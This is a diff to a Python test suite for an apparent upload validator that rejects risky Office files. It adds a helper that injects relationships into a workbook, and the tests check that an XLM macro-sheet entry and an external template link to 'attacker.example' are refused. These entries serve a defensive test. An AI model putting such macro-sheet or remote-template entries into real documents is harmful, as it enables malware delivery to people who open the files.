@@ -18,6 +18,7 @@ from tests.assets.test_office_files import assert_refused, docx_bytes, entry, re
 pytestmark = pytest.mark.django_db
 
 W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"
 
 
 def cfb_bytes() -> bytes:
@@ -109,14 +110,19 @@ def test_a_macrosheets_part_is_refused_even_without_a_content_type(upload, asset
     assert_refused(upload, asset_storage, data, "xlm.xlsx", "office_macros")
 
 
-def test_a_macro_sheet_relationship_is_refused(upload, asset_storage):
+def xlsx_with_relationship(relationship: bytes, *, add: dict[str, bytes] | None = None) -> bytes:
+    """A workbook whose relationships also list ``relationship`` (and that holds the ``add`` parts)."""
     original = xlsx_bytes()
-    rels = entry(original, "xl/_rels/workbook.xml.rels").replace(
-        b"</Relationships>",
+    rels = entry(original, WORKBOOK_RELS).replace(b"</Relationships>", relationship + b"</Relationships>")
+    return rezip(original, replace={WORKBOOK_RELS: rels}, add=add)
+
+
+def test_a_macro_sheet_relationship_is_refused(upload, asset_storage):
+    data = xlsx_with_relationship(
         b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
-        b'xlMacrosheet" Target="worksheets/sheet9.xml"/></Relationships>',
+        b'xlMacrosheet" Target="worksheets/sheet9.xml"/>',
+        add={"xl/worksheets/sheet9.xml": MACROSHEET},
     )
-    data = rezip(original, replace={"xl/_rels/workbook.xml.rels": rels}, add={"xl/worksheets/sheet9.xml": MACROSHEET})
     assert_refused(upload, asset_storage, data, "xlm.xlsx", "office_macros")
 
 
@@ -386,13 +392,10 @@ def test_an_embedded_package_is_checked_by_content_whatever_its_name(upload, ass
 
 
 def test_an_external_relationship_inside_an_embedded_package_is_refused(upload, asset_storage):
-    original = xlsx_bytes()
-    rels = entry(original, "xl/_rels/workbook.xml.rels").replace(
-        b"</Relationships>",
+    inner = xlsx_with_relationship(
         b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
     )
-    inner = rezip(original, replace={"xl/_rels/workbook.xml.rels": rels})
     assert_refused(upload, asset_storage, docx_embedding(inner), "remote.docx", "office_external_relationship")
 
 
